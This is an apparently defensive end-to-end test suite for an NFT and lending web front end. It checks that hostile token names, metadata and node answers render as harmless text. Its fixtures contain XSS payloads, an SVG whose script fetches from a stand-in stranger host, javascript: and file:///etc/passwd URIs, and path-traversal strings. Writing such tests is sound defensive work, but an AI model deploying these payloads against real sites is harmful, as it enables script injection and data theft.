"""
What strangers write, and what a bad node answers, breaks nothing

names
  a token's that is a megabyte long, or never comes
                                   spoils no other's
  a collection's and a token's, with markup, letters that turn the line, letters of no width, and very long
                                   shown as plain short text on every width
a work's metadata
  markup and script in its words   plain text
  an SVG that runs script and calls home
                                   shown as a picture; nothing runs, nobody is called
  an image or a file elsewhere     not asked for; its address is text
  addresses that are no image      text
  too long, too deep, no JSON      the number stands in its place
a node
  a log answer of 10 MB            read; what was not asked for, or is no log, is left out
  one of more                      not read; asked for again in smaller pieces
  an answer that is no list        said in words; comes back with the node
  a collection that was never made with a name of 5 MB
                                   hides no other
a thousand markets                 scroll at 60 frames a second, with few rows drawn; sort and search at once
"""

from __future__ import annotations

import base64
import hashlib
import json
import re
import statistics
from collections.abc import Callable
from typing import Any

import pytest
from eth_abi.abi import encode

from strongroom.client.contract import Call
from strongroom.client.nft import phase
from tests.e2e.conftest import TIMEOUT, Demo, Tab, at_best, expect
from tools.demo.actors import CREATOR, HOLDER

OpenTab = Callable[..., Tab]
SALT = b"e2e".ljust(32, b"\0")
STRANGER = "https://stranger.example"
EVIL = (
    f'<img src=x onerror="window.pwned=1"><script src="{STRANGER}/a.js"></script>'
    "\u202eemaN eurT\u202c\u200b\u200d\ufeff\u2066\u0000" + "\u0301" * 200 + "A" * 20_000
)
UNSEEN = "\u202e\u202c\u200b\u200d\ufeff\u2066"


def text_of(tab: Tab) -> str:
    return str(tab.page.locator("main").inner_text())


def require_unharmed(tab: Tab) -> None:
    """Nothing ran, nothing of it became markup, and the page is as wide as its window.

    Requests elsewhere fail the test by themselves.
    """
    assert tab.page.evaluate("() => window.pwned") is None
    expect(tab.page.locator("img[src=x], script[src*=stranger], iframe, object, embed")).to_have_count(0)
    overflow = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
    assert tab.page.evaluate(overflow) <= 0
    assert not set(UNSEEN) & set(text_of(tab))


# Names


def answering(chain: Demo, answer: bytes) -> str:
    """A contract that answers everything with these bytes."""
    size = len(answer).to_bytes(3, "big")
    code = b"\x62" + size + b"\x60\x0e\x5f\x39\x62" + size + b"\x5f\xf3"
    at = "0x" + hashlib.sha256(answer).hexdigest()[:40]
    chain.node.request("anvil_setCode", at, "0x" + (code.ljust(14, b"\0") + answer).hex())
    return at


@pytest.mark.parametrize("size", [(1_200, 900), (360, 800)])
def test_hostile_names_are_short_plain_text(open_tab: OpenTab, chain: Demo, size: tuple[int, int]) -> None:
    room = chain.room(CREATOR)
    collection = room.nft.factory.create(
        EVIL[:5_000], EVIL[:5_000], max_supply=5, phases=[phase()], salt=SALT
    )
    collection.mint_public(0, 1)
    known = next(iter(room.lending.markets())).params
    token = answering(chain, encode(["string"], [EVIL[:5_000]]))  # of 32 decimals, too
    room.lending.pool.createMarket(known._replace(collateralToken=token)).send()
    tab = open_tab(HOLDER, size=size)
    for parts in (
        ("collect",),
        ("collect", collection.address),
        ("collect", collection.address, "1"),
        ("lend",),
    ):
        tab.go(*parts)
        tab.page.wait_for_function("() => document.querySelectorAll('.skeleton, progress').length === 0")
        require_unharmed(tab)
    tab.go("collect")
    tab.sees("<img src=x onerror=")
    assert "A" * 50 not in text_of(tab)
    tab.go("lend")
    tab.sees("<img src=x …")
    tab.page.get_by_role("link", name="<img src=x").click()
    tab.page.wait_for_function("() => document.querySelectorAll('.skeleton, progress').length === 0")
    require_unharmed(tab)


BURNS = "0x5b5f56"
"""Code that runs in a circle until its gas is gone."""


def test_a_token_that_answers_a_megabyte_or_burns_all_gas_spoils_no_other(tab: Tab, chain: Demo) -> None:
    room = chain.room(CREATOR)
    known = next(iter(room.lending.markets())).params
    burning = "0x" + "66" * 20
    chain.node.request("anvil_setCode", burning, BURNS)
    for token in (burning, answering(chain, encode(["string"], ["M" * 900_000]))):
        room.lending.pool.createMarket(known._replace(collateralToken=token)).send()
    tab.go("lend")
    tab.page.get_by_role("link", name="mBTC / SRUSD").wait_for()
    rows = tab.page.get_by_role("table", name="Markets").get_by_role("row")
    expect(rows).to_have_count(1 + len(list(room.lending.markets())))
    tab.sees("0x6666… / SRUSD")
    tab.sees("MMMMMMMMMMM… / SRUSD")
    require_unharmed(tab)


# Metadata

SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="parent.pwned=1">'
    f'<script>parent.pwned=1; fetch("{STRANGER}/s")</script><image href="{STRANGER}/i.png" width="9" height="9"/>'
    f'<style>@import url("{STRANGER}/c.css")</style><foreignObject><iframe src="{STRANGER}"/></foreignObject>'
    '<rect width="9" height="9" fill="#c33"/></svg>'
)


def inline(kind: str, content: str) -> str:
    return f"data:{kind};base64,{base64.b64encode(content.encode()).decode()}"


def as_uri(metadata: Any) -> str:
    return inline("application/json", metadata if isinstance(metadata, str) else json.dumps(metadata))


@pytest.fixture
def works(open_tab: OpenTab, chain: Demo) -> Callable[[str], Tab]:
    """Opens the page of a work whose metadata are at this address."""
    made = chain.room(CREATOR).nft.factory.create("Evil", "EVL", max_supply=5, phases=[phase()], salt=SALT)
    made.mint_public(0, 1)

    def opening(uri: str) -> Tab:
        # the chain takes some 40 KB at a time
        made.setPlaceholderURI(uri).send()
        tab = open_tab(HOLDER)
        tab.go("collect", made.address, "1")
        tab.page.get_by_text("Number 1").wait_for()
        tab.settle()
        return tab

    return opening


def test_metadata_with_markup_and_a_running_svg_is_a_picture_with_words(works: Callable[[str], Tab]) -> None:
    tab = works(
        as_uri(
            {
                "name": "<script>window.pwned=1</script>" + UNSEEN,
                "description": EVIL[:800],
                "image": inline("image/svg+xml", SVG),
                "attributes": [
                    {"trait_type": EVIL[:150], "value": EVIL[:150]},
                    "<b>",
                    None,
                    {"value": {"a": 1}},
                ]
                * 8,
            }
        )
    )
    tab.sees("<script>window.pwned=1</script>")
    image = tab.page.locator(".picture img")
    image.wait_for()
    assert image.evaluate("async (img) => { await img.decode(); return img.naturalWidth; }") > 0
    tab.page.wait_for_timeout(300)
    require_unharmed(tab)
    assert len(text_of(tab)) < 5_000


@pytest.mark.parametrize(
    "image",
    [
        f"{STRANGER}/track.png",
        "//stranger.example/track.png",
        "javascript:window.pwned=1",
        inline("text/html", "<script>parent.pwned=1</script>"),
        "data:image/svg+xml-not,<svg/>",
        "blob:https://stranger.example/1",
        "file:///etc/passwd",
        "ipfs://../../chains.json",
        "ipfs://%2e%2e/chains.json",
    ],
)
def test_an_image_that_may_not_be_shown_is_text(works: Callable[[str], Tab], image: str) -> None:
    tab = works(as_uri({"name": "Elsewhere", "image": image}))
    tab.sees("Elsewhere")
    tab.sees("This page asks no stranger for it")
    expect(tab.page.locator(".picture img")).to_have_count(0)
    expect(tab.page.locator(".elsewhere")).to_have_text(re.compile("^" + re.escape(image[:20])))
    expect(tab.page.locator("main a[href*=stranger], main a[href^=javascript]")).to_have_count(0)
    require_unharmed(tab)


@pytest.mark.parametrize(
    "uri",
    [
        f"{STRANGER}/1.json",
        "//stranger.example/1.json",
        "./chains.json",
        "ftp://stranger.example/1.json",
        "ipfs://bafy/../../chains.json",
        "data:text/html,<script>window.pwned=1</script>",
        "data:application/json,{",
        "data:application/json;base64,%%%",
        as_uri("[" * 20_000),
        as_uri("null"),
        as_uri('{"name": {"toString": 1}, "image": ["x"], "attributes": "none"}'),
        as_uri({"name": "x" * 20_000}),
    ],
    ids=lambda uri: uri[:24],
)
def test_metadata_that_cannot_be_read_leave_the_number(works: Callable[[str], Tab], uri: str) -> None:
    tab = works(uri)
    expect(tab.page.locator(".picture img")).to_have_count(0)
    tab.page.locator(".picture-number").get_by_text("#1").wait_for()
    require_unharmed(tab)


def test_a_contract_whose_every_answer_is_near_a_megabyte(open_tab: OpenTab, chain: Demo) -> None:
    uri = as_uri({"name": "Heavy", "image": "data:image/png;base64," + "A" * 600_000})
    answer = encode(["string"], [uri])
    stranger = answering(chain, answer)
    tab = open_tab(HOLDER)
    tab.go("collect", stranger, "1")
    tab.sees("This collection was not made by this suite's factory")
    tab.settle()
    expect(tab.page.locator(".picture img")).to_have_count(0)
    require_unharmed(tab)
    tab.go("collect", stranger)
    tab.sees("there is no collection of this address on this chain")


def test_an_own_file_that_is_no_image_leaves_the_number(works: Callable[[str], Tab], chain: Demo) -> None:
    tab = works(as_uri({"name": "No image", "image": f"{chain.page}/chains.json"}))
    tab.sees("No image")
    tab.page.locator(".picture-number").get_by_text("#1").wait_for()
    require_unharmed(tab)


# A bad node


def answer_logs(tab: Tab, change: Callable[[Any, list[Any]], Any]) -> None:
    """Lets `change` make the node's answers about events, from the request and the true answer."""

    def handle(route: Any) -> None:
        asked = json.loads(route.request.post_data)
        if isinstance(asked, list) or asked["method"] != "eth_getLogs":
            route.continue_()
            return
        true = route.fetch(timeout=TIMEOUT).json()
        route.fulfill(
            json={"jsonrpc": "2.0", "id": asked["id"], "result": change(asked, true.get("result", []))}
        )

    tab.page.route(lambda url: url.startswith(tab.demo.node.url), handle)


def flooded_with(
    chain: Demo, size: int, sizes: list[int], widest: int = 0
) -> Callable[[Any, list[Any]], Any]:
    """True answers drowned in `size` bytes of others; only for more blocks than `widest`."""
    deployment = chain.room().deployment
    flooded = {deployment.address(name).lower() for name in ("CollectionFactory", "LendingPool")}

    def flood(asked: Any, logs: list[Any]) -> list[Any]:
        source = asked["params"][0]
        width = int(source["toBlock"], 16) - int(source["fromBlock"], 16) + 1
        if not logs or source["address"][0].lower() not in flooded or width <= widest:
            return logs
        other = {**logs[0], "address": "0x" + "11" * 20, "data": "0x" + "ff" * 2_000}
        garbage = {**logs[0], "data": "0x" + "ff" * 2_000}
        late = {**logs[0], "blockNumber": hex(10**9)}
        count = size // len(json.dumps(other))
        answer = [*([other] * (count - 500)), *([garbage] * 500), late, *logs]
        sizes.append(len(json.dumps(answer)))
        return answer

    return flood


def require_all_shown(tab: Tab) -> None:
    tab.go("collect")
    tab.page.get_by_role("link", name="Doors of the Strongroom").wait_for()
    expect(tab.page.get_by_role("link", name="Doors of the Strongroom")).to_have_count(1)
    expect(tab.page.get_by_role("link", name="A" * 10)).to_have_count(0)
    tab.go("lend")
    tab.page.get_by_role("table", name="Markets").get_by_role("row").nth(2).wait_for()
    tab.go()
    tab.page.locator(".activity-list li").first.wait_for()


def test_ten_megabytes_of_logs_break_nothing(tab: Tab, chain: Demo) -> None:
    sizes: list[int] = []
    answer_logs(tab, flooded_with(chain, 10_000_000, sizes))
    require_all_shown(tab)
    assert min(sizes) > 9_990_000


def test_more_than_an_answer_may_be_is_asked_for_in_pieces(tab: Tab, chain: Demo) -> None:
    sizes: list[int] = []
    answer_logs(tab, flooded_with(chain, 10_600_000, sizes, widest=250))
    require_all_shown(tab)
    assert min(sizes) > 10_485_760  # what the page reads of one answer


@pytest.mark.parametrize("answer", ["no list", None, {"logs": []}, 7])
def test_an_answer_that_is_no_list_is_said_in_words(tab: Tab, chain: Demo, answer: Any) -> None:
    answer_logs(tab, lambda asked, logs: answer)
    tab.go("collect")
    tab.sees("This could not be read: the node's answer is no list of events.")
    tab.page.unroute_all(behavior="ignoreErrors")
    chain.node.request("evm_mine")
    tab.page.get_by_role("link", name="Doors of the Strongroom").wait_for()


def test_logs_that_are_no_logs_are_left_out(tab: Tab) -> None:
    answer_logs(tab, lambda asked, logs: [None, 7, "x", {}, {"address": 5}, *logs])
    tab.go("collect")
    tab.page.get_by_role("link", name="Doors of the Strongroom").wait_for()


def test_a_collection_that_was_never_made_hides_no_other(tab: Tab, chain: Demo) -> None:
    factory = chain.room().deployment.address("CollectionFactory").lower()

    def invent(asked: Any, logs: list[Any]) -> list[Any]:
        address = asked["params"][0]["address"]
        if not logs or factory not in [item.lower() for item in address]:
            return logs
        data = encode(["bytes32", "string", "string"], [bytes(32), "Never made " + "x" * 5_000_000, EVIL])
        topics = [logs[0]["topics"][0], "0x" + "00" * 12 + "22" * 20, "0x" + "00" * 12 + "33" * 20]
        return [{**logs[0], "topics": topics, "data": "0x" + data.hex()}, *logs]

    answer_logs(tab, invent)
    tab.go("collect")
    tab.page.get_by_role("link", name="Doors of the Strongroom").wait_for()
    require_unharmed(tab)


# A thousand markets

MARKETS = 1_000
MEASURE = """async (moving) => {
  const frame = document.querySelector(".table-frame.long");
  frame.scrollTop = 0;
  const times = [], work = [];
  await new Promise((resolve) => {
    let last = performance.now(), left = 120;
    const step = (now) => {
      times.push(now - last);
      last = now;
      if (moving) frame.scrollTop += 173;
      const begun = performance.now();
      // a message comes after this frame's scripts, layout and paint
      const channel = new MessageChannel();
      channel.port1.onmessage = () => work.push(performance.now() - begun);
      channel.port2.postMessage(0);
      if (--left > 0) requestAnimationFrame(step);
      else resolve();
    };
    requestAnimationFrame(step);
  });
  return { times: times.slice(2), work, rows: frame.querySelectorAll("tbody tr").length, top: frame.scrollTop };
}"""


def create_markets(chain: Demo) -> None:
    room = chain.room(CREATOR)
    pool = room.lending.pool
    known = next(iter(room.lending.markets())).params
    steps = [
        pool.createMarket(known._replace(oracle=f"0x{0xABC000000 + number:040x}")).data
        for number in range(MARKETS)
    ]
    sender = room.connection.require_signer().address
    for at in range(0, MARKETS, 100):
        call: Call[Any] = pool.multicall(tuple(steps[at : at + 100]))
        chain.node.send_as(sender, pool.address, call.data)


@pytest.mark.quiet
def test_a_thousand_markets_scroll_at_sixty_frames(tab: Tab, chain: Demo) -> None:
    create_markets(chain)
    tab.go("lend")
    tab.page.locator(".table-frame.long tbody tr").nth(20).wait_for()
    tab.settle()
    total = str(len(list(chain.room().lending.markets())) + 1)
    expect(tab.page.locator(".table-frame.long table")).to_have_attribute("aria-rowcount", total)
    at_best(lambda: require_sixty_frames(tab), 5)
    at_best(lambda: require_found_at_once(tab))


def require_sixty_frames(tab: Tab) -> None:
    still = tab.page.evaluate(MEASURE, False)
    moving = tab.page.evaluate(MEASURE, True)
    assert moving["top"] > 10_000
    assert moving["rows"] < 60
    shown = {
        name: (round(statistics.median(found["times"]), 1), round(sorted(found["work"])[-6], 1))
        for name, found in (("still", still), ("moving", moving))
    }
    print(f"\nframe (median) and work (95th of 100) in ms: {shown}")
    # frames come as to a page that stands still, but for those that a busy machine drops, and have time to spare
    assert statistics.median(moving["times"]) <= 17.5, shown
    assert sum(moving["times"]) <= 1.3 * sum(still["times"]) + 50, shown
    assert statistics.median(moving["work"]) <= 10, shown


def require_found_at_once(tab: Tab) -> None:
    tab.page.get_by_label("Search Markets").fill("")
    tab.page.locator(".table-frame.long tbody tr").nth(20).wait_for()
    begun = tab.page.evaluate("() => performance.now()")
    tab.page.get_by_role("button", name="Liquidates at").click()
    tab.page.get_by_label("Search Markets").fill("mbtc")
    tab.page.get_by_role("link", name="mBTC / SRUSD").wait_for()
    assert tab.page.evaluate("() => performance.now()") - begun < 1_500
